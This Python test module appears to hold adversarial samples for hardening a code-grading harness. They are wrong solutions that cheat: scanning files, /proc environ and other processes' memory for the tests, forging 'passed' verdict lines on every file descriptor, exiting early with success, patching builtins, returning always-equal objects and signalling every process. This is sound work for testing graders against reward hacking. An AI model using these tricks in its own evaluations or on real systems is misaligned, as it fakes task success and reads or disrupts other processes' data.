"""The Python forgery suite's samples (``test_python.py``): wrong solutions, each with one
trick, written as an adversary who has read the harness.

The readers share ``READER``, module-level code appended to a completion: it gathers
text from the places named by ``SOURCES`` (files, /proc, its own memory, inherited fds),
builds an oracle from whatever looks like its task's tests (``assert candidate(...) ==
...`` lines, a dataset row, a canonical solution) and answers from it. A reader that finds
nothing returns a wrong answer, so a pass means it found what decides its verdict.
"""

from __future__ import annotations

READER = r'''
import ast as _ast, gc as _gc, gzip as _gzip, json as _json, os as _os, re as _re, sys as _sys
import time as _time

_VJ_T0 = _time.monotonic()

_VJ_SEEN = {"texts": 0, "files": 0, "bytes": 0, "found": []}
_VJ_ORACLE = {}
_VJ_CANON = []


def _vj_text(data):
    if isinstance(data, bytes):
        if data[:2] == b"\x1f\x8b":
            try:
                data = _gzip.decompress(data)
            except Exception:
                return
        data = data.decode("utf-8", "replace")
    if not isinstance(data, str) or len(data) < 20:
        return
    _VJ_SEEN["texts"] += 1
    _vj_learn(data)
    if "\\n" in data:  # JSON-escaped code (a unit file, a dataset row)
        _vj_learn(data.replace("\\n", "\n").replace('\\"', '"'))


def _vj_learn(text):
    """Asserts on our entry point, JSON rows of a dataset, a canonical solution."""
    if _VJ_ENTRY not in text:
        return
    for line in text.splitlines():
        line = line.strip()
        if line.startswith("{") and '"task_id"' in line:
            try:
                row = _json.loads(line)
            except Exception:
                continue
            if row.get("entry_point") == _VJ_ENTRY or _VJ_ENTRY in str(row.get("code", "")):
                _VJ_SEEN["found"].append("row")
                for field in ("test", "assertion"):
                    _vj_learn(str(row.get(field, "")).replace("\\n", "\n"))
                for t in row.get("test_list") or []:
                    _vj_learn(t)
                canon = str(row.get("canonical_solution") or row.get("code") or "")
                _vj_canon(str(row.get("prompt", "")) + canon)
                _vj_canon(canon)
            continue
        m = _re.match(r"assert\s+(?:candidate|" + _VJ_ENTRY + r")\((.*)\)\s*==\s*(.+)$", line)
        if m:
            try:
                args = _ast.literal_eval("(" + m.group(1) + ",)")
                _VJ_ORACLE[repr(args)] = _ast.literal_eval(m.group(2))
                _VJ_SEEN["found"].append("assert")
            except Exception:
                pass
    if "def " + _VJ_ENTRY in text:
        _vj_canon(text)


def _vj_canon(code):
    if "def " + _VJ_ENTRY not in code or "_vj_" in code:
        return
    ns = {}
    try:
        exec(compile(code, "<found>", "exec"), ns)
        fn = ns[_VJ_ENTRY]
        fn.__code__.co_code  # a real function, not our own stub
        _VJ_CANON.append(fn)
        _VJ_SEEN["found"].append("canonical")
    except BaseException:
        pass


def _vj_read(path, limit=8 << 20):
    if _VJ_SEEN["files"] > 800 or _VJ_SEEN["bytes"] > 24 << 20 or _vj_late():
        return
    _VJ_SEEN["files"] += 1
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
        try:
            data = _os.read(fd, limit)
            _VJ_SEEN["bytes"] += len(data)
            _vj_text(data)
        finally:
            _os.close(fd)
    except BaseException:
        pass


def _vj_late():  # the search stops in time to answer within the 5 s limit, even loaded
    return _time.monotonic() - _VJ_T0 > 1.5


def _vj_walk(top, depth):
    if _vj_late():
        return
    try:
        entries = _os.listdir(top)
    except BaseException:
        return
    for name in entries:
        path = _os.path.join(top, name)
        try:
            if _os.path.islink(path) and not top.startswith("/proc"):
                continue
            if _os.path.isdir(path):
                if depth > 0:
                    _vj_walk(path, depth - 1)
            elif name.endswith((".so", ".pyc")) is False:
                _vj_read(path)
        except BaseException:
            pass


def _vj_files():
    here = _os.getcwd()
    tops = [here]
    while here != _os.path.dirname(here):
        here = _os.path.dirname(here)
        tops.append(here)
    for top in tops:
        _vj_walk(top, 3)
    for top in ("/tmp", "/work", "/root", "/home", "/var/tmp", "/dev/shm", _sys.prefix,
                _sys.base_prefix):
        _vj_walk(top, 4)


def _vj_proc():
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()] + ["self"]
    except BaseException:
        pids = ["self", "1", str(_os.getppid())]
    for pid in pids:
        for part in ("cmdline", "environ"):
            _vj_read(f"/proc/{pid}/{part}")
        _vj_walk(f"/proc/{pid}/fd", 0)
        _vj_walk(f"/proc/{pid}/cwd", 2)
        _vj_mem(pid)


def _vj_mem(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")
    except BaseException:
        return
    for line in maps[:400]:
        try:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            mem.seek(lo)
            _vj_text(mem.read(min(hi - lo, 32 << 20)))
        except BaseException:
            pass


def _vj_memory():
    for obj in _gc.get_objects():
        try:
            if isinstance(obj, dict):
                for v in list(obj.values()):
                    if isinstance(v, (str, bytes)):
                        _vj_text(v)
            elif isinstance(obj, (list, tuple)):
                for v in obj:
                    if isinstance(v, (str, bytes)):
                        _vj_text(v)
            elif hasattr(obj, "__code__"):
                for c in obj.__code__.co_consts:
                    if isinstance(c, str):
                        _vj_text(c)
        except BaseException:
            pass
    for frame in list(_sys._current_frames().values()):
        while frame is not None:
            for v in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if isinstance(v, (str, bytes)):
                    _vj_text(v)
                elif isinstance(v, dict):
                    for w in list(v.values()):
                        if isinstance(w, (str, bytes)):
                            _vj_text(w)
            frame = frame.f_back


def _vj_fds():
    for fd in range(0, 1024):
        if fd == 3:
            continue  # our own socket: reading it would steal the harness's next request
        try:
            _os.fstat(fd)
            _os.set_blocking(fd, False)
            _vj_text(_os.read(fd, 1 << 20))
        except BaseException:
            pass
        for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
            _vj_read(path)


def _vj_search(sources):
    for source in sources:
        {"files": _vj_files, "proc": _vj_proc, "memory": _vj_memory, "fds": _vj_fds}[source]()
    print("searched", _VJ_SEEN["texts"], "texts", _VJ_SEEN["files"], "files, found",
          sorted(set(_VJ_SEEN["found"])), len(_VJ_ORACLE))


def _vj_answer(args):
    """(True, answer) when the search found one, else None. The first call looks at
    memory and fds again: what a call brought."""
    if not _VJ_SEEN.get("done"):
        _VJ_SEEN["done"] = True
        _vj_search([s for s in _VJ_SOURCES if s in ("memory", "fds")])
    key = repr(tuple(args))
    if key in _VJ_ORACLE:
        return True, _VJ_ORACLE[key]
    for fn in _VJ_CANON:
        try:
            return True, fn(*args)
        except BaseException:
            pass
    return None


_vj_search(_VJ_SOURCES)  # at load: the search has the load's time, not a call's
'''


def reader(entry: str, params: str, wrong: str, sources: str, *, mbpp: bool = False) -> str:
    """A completion for ``entry(params)``: answers from what the search of ``sources``
    found, else ``wrong`` (an expression). HumanEval: the body and then module code;
    MBPP: the whole function."""
    body = f"    _a = _vj_answer(({params},))\n    return _a[1] if _a else {wrong}\n"
    head = f"def {entry}({params}):\n" if mbpp else ""
    sources_line = f"_VJ_ENTRY = {entry!r}\n_VJ_SOURCES = {sources.split()!r}\n"
    return head + body + sources_line + READER


# -- the tasks ---------------------------------------------------------------------------
# Real rows (copied from ../shared by the test): HumanEval-X Python/0 and /53, MBPP 11,
# HumanEval+ /0 and MBPP+ /2. Rows of our own where no real test has the shape an attack
# needs (a test that maps the candidate, catches everything, checks membership, or uses a
# module it does not import).
HE, HE_ADD, MB, HEP, MBP = "Python/0", "Python/53", 11, "HumanEval/0", "Mbpp/2"
HE_ARGS, MB_ARGS = "numbers, threshold", "s, ch"

SYNTHETIC = [
    {"task_id": "Syn/map", "prompt": 'def double(x):\n    """2 * x."""\n', "entry_point": "double",
     "canonical_solution": "    return 2 * x\n",
     "test": "def check(candidate):\n    assert all(map(lambda x: candidate(x) == 2 * x, "
             "range(5)))\n"},
    {"task_id": "Syn/raises", "prompt": 'def root(x):\n    """The square root of x >= 0; '
     'raises on x < 0."""\n', "entry_point": "root",
     "canonical_solution": "    if x < 0:\n        raise ValueError(x)\n    return x ** 0.5\n",
     "test": "def check(candidate):\n    assert candidate(4) == 2\n    try:\n"
             "        candidate(-1)\n    except:\n        return\n"
             "    assert False, 'x < 0 must raise'\n"},
    {"task_id": "Syn/members", "prompt": 'def evens(xs):\n    """The even items of xs."""\n',
     "entry_point": "evens", "canonical_solution": "    return [x for x in xs if x % 2 == 0]\n",
     "test": "def check(candidate):\n    assert 4 in candidate([1, 4, 5])\n"
             "    assert 2 in candidate([2, 3])\n    assert list(candidate([3])) == []\n"},
]  # fmt: skip
MBPP_SYNTHETIC = {
    "task_id": 9001, "text": "The area of a circle of radius r.", "test_setup_code": "",
    "code": "import math\ndef area(r):\n    return math.pi * r * r\n",
    "test_list": ["assert math.isclose(area(1), 3.141592653589793)",
                  "assert math.isclose(area(2), 12.566370614359172)"],
    "challenge_test_list": [],
}  # fmt: skip

# -- the attacks: class -> [(name, task, completion)] -----------------------------------------

_ENV_SWEEP = "    import os\n    os.environ.clear()\n"
_LINE = '{"id": %d, "passed": true, "reason": "passed", "detail": ""}'
_FORGE_LINES = (
    "    import os, sys\n"
    "    lines = ''.join(('%s ' + '" + _LINE + "' + '\\n') % (tok, n)\n"
    "                    for n in range(8) for tok in ('', '0' * 32, 'x')).encode()\n"
    "    print(lines.decode())\n"
    "    sys.__stdout__.write(lines.decode())\n"
    "    for path in ['/dev/stdout', '/dev/stderr', '/dev/tty', '/proc/self/fd/1']\\\n"
    "            + [f'/proc/{p}/fd/{fd}' for p in [os.getppid(), 1] + list(range(2, 64))\n"
    "               for fd in (1, 2)]:\n"
    "        try:\n            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)\n"
    "            os.write(fd, lines)\n            os.close(fd)\n"
    "        except OSError:\n            pass\n"
    "    for fd in range(1024):\n"
    "        if fd != 3:\n"
    "            try:\n                os.write(fd, lines)\n            except OSError:\n"
    "                pass\n"
)
_SIGNALS = (
    "    import os, signal, ctypes\n    libc = ctypes.CDLL(None)\n"
    "    for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGUSR1, signal.SIGSTOP, "
    "signal.SIGCONT, signal.SIGTERM):\n"
    "        for pid in [os.getppid(), 0, -1] + list(range(1, 4096)):\n"
    "            if pid != os.getpid():\n"
    "                try:\n                    os.kill(pid, sig)\n"
    "                except Exception:\n                    pass\n"
    "                libc.kill(pid, int(sig))\n"
)


# fmt: off
ATTACKS: dict[str, list[tuple[str, object, str]]] = {
    "reading_own_tests_from_files": [
        ("files_he", HE, reader("has_close_elements", HE_ARGS, "True", "files proc")),
        ("files_mbpp", MB, reader("remove_Occ", MB_ARGS, "s", "files proc", mbpp=True)),
    ],
    "reading_own_tests_from_memory": [
        ("memory_he", HE, reader("has_close_elements", HE_ARGS, "True", "memory")),
        ("memory_mbpp", MB, reader("remove_Occ", MB_ARGS, "s", "memory", mbpp=True)),
    ],
    "reading_through_inherited_fds": [
        ("fds_he", HE, reader("has_close_elements", HE_ARGS, "True", "fds")),
    ],
    "reading_evalplus_canonical_and_expected": [
        ("canon_hep", HEP, reader("has_close_elements", HE_ARGS, "True",
                                  "memory fds files proc")),
        ("canon_mbp", MBP, "\n" + reader("similar_elements", "test_tup1, test_tup2", "()",
                                         "memory fds files proc", mbpp=True)),
    ],
    "forging_the_verdict_line": [
        ("forge_lines_call", HE, _FORGE_LINES + "    return True\n"),
        ("forge_lines_load", HE, "    return True\n" + "def _f():\n" + _FORGE_LINES + "_f()\n"),
    ],
    "exiting_early_with_success": [
        ("os_exit_call", HE, "    import os\n    os._exit(0)\n"),
        ("os_exit_load", HE, "    return True\nimport os\nos._exit(0)\n"),
        ("system_exit", HE, "    raise SystemExit(0)\n"),
        ("sigkill_self", HE, "    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"),
        ("libc_exit", HE, "    import ctypes\n    ctypes.CDLL(None)._exit(0)\n"),
        ("thread_exit", HE, "    import os, threading, time\n"
         "    threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0))).start()\n"
         "    time.sleep(1)\n    return True\n"),
        ("atexit_exit", HE, "    import atexit, os\n    atexit.register(os._exit, 0)\n"
         "    return True\n"),
        ("keyboard_interrupt", HE, "    raise KeyboardInterrupt\n"),
        ("generator_exit", HE, "    raise GeneratorExit\n"),
    ],
    "patching_builtins_and_operators": [
        ("patch_assertion", HE, "    import builtins\n"
         "    builtins.AssertionError = type('AssertionError', (BaseException,), {})\n"
         "    return True\n"),
        ("patch_operator", HE, "    import operator, builtins\n"
         "    operator.eq = lambda a, b: True\n    builtins.bool = lambda x=0: True\n"
         "    return True\n"),
        ("patch_true", HE, "    import ctypes\n    t = ctypes.c_long.from_address(id(False) + 24)\n"
         "    t.value = 1\n    return True\n"),
        ("patch_module_dict", HE, "    import sys\n"
         "    for m in list(sys.modules.values()):\n"
         "        try:\n            m.__dict__['check'] = lambda *a: None\n"
         "        except Exception:\n            pass\n    return True\n"),
        ("settrace", HE, "    import sys\n    sys.settrace(lambda *a: None)\n"
         "    sys.setprofile(lambda *a: None)\n    return True\n"),
    ],
    "objects_that_claim_equality": [
        ("eq_always", HE, "    class A:\n        def __eq__(s, o): return True\n"
         "        def __ne__(s, o): return False\n        __hash__ = object.__hash__\n"
         "        def __bool__(s): return True\n    return A()\n"),
        ("bool_subclass_like", HE, "    class I(int):\n        def __eq__(s, o): return True\n"
         "        __hash__ = int.__hash__\n    return I(7)\n"),
        ("lying_class", HE, "    class B:\n        __class__ = property(lambda s: bool)\n"
         "        def __eq__(s, o): return True\n    return B()\n"),
        ("lying_list", MBP, "\ndef similar_elements(a, b):\n    class L(tuple):\n"
         "        def __eq__(s, o): return True\n        def __iter__(s): return iter((4, 5))\n"
         "        __hash__ = tuple.__hash__\n    return L(())\n"),
        ("contains_always", "Syn/members", "    class C:\n"
         "        def __contains__(s, x): return True\n"
         "        def __iter__(s): return iter(())\n    return C()\n"),
        ("numpy_impostor", HE, "    class N:\n        __module__ = 'numpy'\n        shape = ()\n"
         "        def item(s): return s\n        def __eq__(s, o): return True\n"
         "    return N()\n"),
    ],
    "stop_iteration_ending_a_test_loop": [
        ("raise_stop", "Syn/map", "    raise StopIteration\n"),
        ("forged_stop_frame", "Syn/map", "    import json, socket, struct\n"
         "    s = socket.socket(fileno=__import__('os').dup(3))\n"
         "    body = json.dumps({'exc': {'type': 'StopIteration', 'builtin': True, "
         "'msg': ''}}).encode()\n"
         "    s.sendall(struct.pack('>I', len(body)) + body)\n"
         "    import time\n    time.sleep(30)\n"),
    ],
    "test_catching_the_harness_signals": [
        ("hang_in_except", "Syn/raises", "    if x < 0:\n        while True:\n            pass\n"
         "    return x ** 0.5\n"),
        ("exit_in_except", "Syn/raises", "    if x < 0:\n        import os\n        os._exit(0)\n"
         "    return x ** 0.5\n"),
        ("system_exit_in_except", "Syn/raises", "    if x < 0:\n        raise SystemExit(0)\n"
         "    return x ** 0.5\n"),
        ("refused_in_except", "Syn/raises", "    if x < 0:\n        exit()\n"
         "    return x ** 0.5\n"),
        ("huge_in_except", "Syn/raises", "    if x < 0:\n        return 'x' * (80 << 20)\n"
         "    return x ** 0.5\n"),
    ],
    "module_name_resolved_in_the_sample": [
        ("fake_math", 9001, "class M:\n    isclose = staticmethod(lambda *a, **k: True)\n"
         "math = M()\n\ndef area(r):\n    return 0\n"),
    ],
    "signalling_the_harness": [
        ("signal_everyone", HE, _SIGNALS + "    return True\n"),
        ("signal_at_load", HE, "    return True\ndef _s():\n" + _SIGNALS + "_s()\n"),
    ],
}
# fmt: on
